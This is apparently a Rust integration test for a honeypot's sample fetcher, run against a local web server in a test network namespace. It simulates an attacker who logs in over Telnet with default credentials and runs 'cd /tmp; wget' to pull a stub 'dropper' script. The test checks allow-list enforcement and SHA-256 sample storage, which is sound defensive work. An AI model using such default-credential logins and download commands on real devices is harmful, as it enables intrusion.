//! The sample fetcher (#25 item 6) against a real web server in a network
//! namespace the test makes (veth pair, documentation range 198.51.100.0/24):
//! a Telnet session's `wget` is fetched outside the session and kept by
//! SHA-256 (`sample.fetch` linked to the download, the file downloadable);
//! a destination outside `fetcher.allow` is refused; with the fetcher off
//! (the default) nothing is fetched. The namespace is deleted by a guard.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use sha2::Digest;

use crate::util::{Server, all_events, client, token};

const HOST_IP: &str = "198.51.100.1";
const WEB_IP: &str = "198.51.100.2";
const PAYLOAD: &[u8] = b"#!/bin/sh\n# dropper of test 25\ncd /tmp; echo pwned\n";

/// A namespace with a web server, joined to this one by a veth pair.
struct WebNs {
    ns: String,
    host_dev: String,
    server: Option<Child>,
    log: std::path::PathBuf,
}

fn ip(args: &[&str]) {
    let out = Command::new("ip").args(args).output().expect("run ip");
    assert!(
        out.status.success(),
        "ip {}: {}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr)
    );
}

impl WebNs {
    fn new(dir: &std::path::Path) -> WebNs {
        let id = std::process::id();
        let web = WebNs {
            ns: format!("nfw{id}"),
            host_dev: format!("fh{id}"),
            server: None,
            log: dir.join("http.log"),
        };
        let ns_dev = format!("fn{id}");
        ip(&["netns", "add", &web.ns]);
        ip(&[
            "link",
            "add",
            &web.host_dev,
            "type",
            "veth",
            "peer",
            "name",
            &ns_dev,
            "netns",
            &web.ns,
        ]);
        ip(&[
            "addr",
            "add",
            &format!("{HOST_IP}/24"),
            "dev",
            &web.host_dev,
        ]);
        ip(&["link", "set", &web.host_dev, "up"]);
        ip(&[
            "-n",
            &web.ns,
            "addr",
            "add",
            &format!("{WEB_IP}/24"),
            "dev",
            &ns_dev,
        ]);
        ip(&["-n", &web.ns, "link", "set", &ns_dev, "up"]);
        ip(&["-n", &web.ns, "link", "set", "lo", "up"]);
        web
    }

    fn serve(&mut self, root: &std::path::Path) {
        let log = std::fs::File::create(&self.log).unwrap();
        let child = Command::new("ip")
            .args([
                "netns",
                "exec",
                &self.ns,
                "python3",
                "-m",
                "http.server",
                "8000",
            ])
            .args(["--bind", WEB_IP, "--directory"])
            .arg(root)
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .expect("python3 -m http.server");
        self.server = Some(child);
        let deadline = Instant::now() + Duration::from_secs(20);
        let addr: SocketAddr = format!("{WEB_IP}:8000").parse().unwrap();
        while TcpStream::connect_timeout(&addr, Duration::from_millis(200)).is_err() {
            assert!(Instant::now() < deadline, "the web server did not start");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// Requests the web server answered for `path`.
    fn hits(&self, path: &str) -> usize {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .matches(&format!("\"GET {path} "))
            .count()
    }
}

impl Drop for WebNs {
    fn drop(&mut self) {
        if let Some(c) = self.server.as_mut() {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = Command::new("ip")
            .args(["link", "del", &self.host_dev])
            .status();
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
    }
}

fn tools() -> bool {
    let ok = Command::new("ip").arg("-V").output().is_ok()
        && Command::new("python3").arg("-V").output().is_ok()
        && Command::new("ip")
            .args(["netns", "list"])
            .output()
            .is_ok_and(|o| o.status.success());
    if !ok && std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("ip (iproute2), network namespaces and python3 are needed by this test");
    }
    ok
}

/// A Telnet session that downloads `urls` with wget, then exits.
fn telnet_wget(addr: SocketAddr, urls: &[String]) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut input = String::from("root\r\n123456\r\n");
    for url in urls {
        input.push_str(&format!("cd /tmp; wget {url}\r\n"));
    }
    input.push_str("exit\r\n");
    s.write_all(input.as_bytes()).unwrap();
    let mut all = Vec::new();
    let _ = s.read_to_end(&mut all);
}

/// Waits for `n` events of `query`.
fn wait_for(url: &str, token: &str, query: &str, n: usize) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let events = all_events(url, token, query);
        if events.len() >= n {
            return events;
        }
        assert!(Instant::now() < deadline, "{query}: {events:?}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn the_fetcher_keeps_what_attackers_download_and_only_when_on() {
    if !tools() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("www");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("bot.sh"), PAYLOAD).unwrap();
    let mut web = WebNs::new(dir.path());
    web.serve(&root);
    let sha: String = sha2::Sha256::digest(PAYLOAD)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let allowed = format!("http://{WEB_IP}:8000/bot.sh");
    let refused = "http://127.0.0.1:9/x.sh".to_owned();

    // On, allowed to the namespace's network only.
    let data = dir.path().join("on");
    let config = dir.path().join("on.toml");
    std::fs::write(
        &config,
        "[fetcher]\nenabled = true\nallow = [\"198.51.100.0/24\"]\ntimeout_seconds = 10\n",
    )
    .unwrap();
    let analyst = token(&data, "analyst-25f", "analyst");
    let server = Server::start(&data, Some(&config));
    telnet_wget(server.telnet.unwrap(), &[allowed.clone(), refused.clone()]);
    let fetches = wait_for(&server.url, &analyst, "kind=sample.fetch", 2);
    let downloads = all_events(&server.url, &analyst, "kind=telnet.download");
    assert_eq!(downloads.len(), 2, "{downloads:?}");
    let by_url = |events: &[Value], url: &str| {
        events
            .iter()
            .find(|e| e["data"]["url"] == url)
            .cloned()
            .unwrap_or_else(|| panic!("{url}: {events:?}"))
    };
    let fetched = by_url(&fetches, &allowed);
    let download = by_url(&downloads, &allowed);
    assert_eq!(fetched["data"]["fetched"], true, "{fetched}");
    assert_eq!(fetched["data"]["sha256"], sha.as_str());
    assert_eq!(fetched["data"]["size"], PAYLOAD.len());
    assert_eq!(fetched["data"]["download"], download["id"]);
    assert_eq!(fetched["data"]["session"], download["data"]["session"]);
    assert_eq!(fetched["src_ip"], download["src_ip"]);
    assert_eq!(fetched["severity"], "high");
    let not = by_url(&fetches, &refused);
    assert_eq!(not["data"]["fetched"], false, "{not}");
    assert_eq!(not["data"]["reason"], "not_allowed", "{not}");
    // Kept like uploads: downloadable by SHA-256.
    let sample = client()
        .get(format!("{}/api/v1/samples/{sha}", server.url))
        .bearer_auth(&analyst)
        .send()
        .unwrap();
    assert_eq!(sample.status(), 200);
    assert_eq!(sample.bytes().unwrap().as_ref(), PAYLOAD);
    assert_eq!(web.hits("/bot.sh"), 1, "fetched once");
    let status: Value = client()
        .get(format!("{}/api/v1/status", server.url))
        .bearer_auth(&analyst)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert!(
        status["consumers"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["name"] == "sample-fetcher"),
        "{status}"
    );
    drop(server);

    // Off (the default): the same download is recorded, nothing is fetched.
    let data = dir.path().join("off");
    let viewer = token(&data, "viewer-25f", "viewer");
    let server = Server::start(&data, None);
    telnet_wget(server.telnet.unwrap(), std::slice::from_ref(&allowed));
    wait_for(&server.url, &viewer, "kind=session.close", 1);
    wait_for(&server.url, &viewer, "kind=telnet.download", 1);
    std::thread::sleep(Duration::from_secs(3));
    assert!(all_events(&server.url, &viewer, "kind=sample.fetch").is_empty());
    assert_eq!(
        web.hits("/bot.sh"),
        1,
        "nothing fetched with the fetcher off"
    );
}
